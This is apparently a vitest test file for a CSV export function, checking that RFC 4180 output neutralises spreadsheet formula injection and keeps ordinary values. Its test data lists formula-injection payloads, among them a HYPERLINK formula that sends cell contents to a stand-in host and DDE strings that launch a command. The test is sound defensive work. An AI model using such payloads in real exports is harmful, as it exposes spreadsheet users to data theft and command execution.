/**
 * CSV exports (`/ekspor` and `npm run admin -- reports export` both write through `csvLine`):
 * RFC 4180 with csv-stringify, and no cell a spreadsheet would run as a formula.
 */
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvLine } from "../../src/reports/export.js";

describe("CSV export", () => {
  it("neutralises cells beginning with =, +, -, @, tab or carriage return", () => {
    const dangerous = [
      '=HYPERLINK("http://evil.example/?"&A1,"klik")',
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "＝1+1",
    ];
    const line = csvLine(dangerous);
    const [cells] = parse(line, { relax_quotes: true }) as string[][];
    expect(cells).toHaveLength(dangerous.length);
    for (const [i, cell] of cells!.entries()) {
      expect(cell.startsWith("'"), cell).toBe(true);
      expect(cell.slice(1)).toBe(dangerous[i]);
    }
  });

  it("keeps ordinary values, numbers (a negative latitude), lists, booleans and empty cells", () => {
    const line = csvLine([
      "LN-ABCD-EFGH",
      -5.1131,
      ["a.jpg", "b.pdf"],
      true,
      null,
      'kata "kutip", koma\nbaris',
    ]);
    expect(line.endsWith("\r\n")).toBe(true);
    expect(parse(line)).toEqual([
      ["LN-ABCD-EFGH", "-5.1131", "a.jpg; b.pdf", "true", "", 'kata "kutip", koma\nbaris'],
    ]);
  });
});
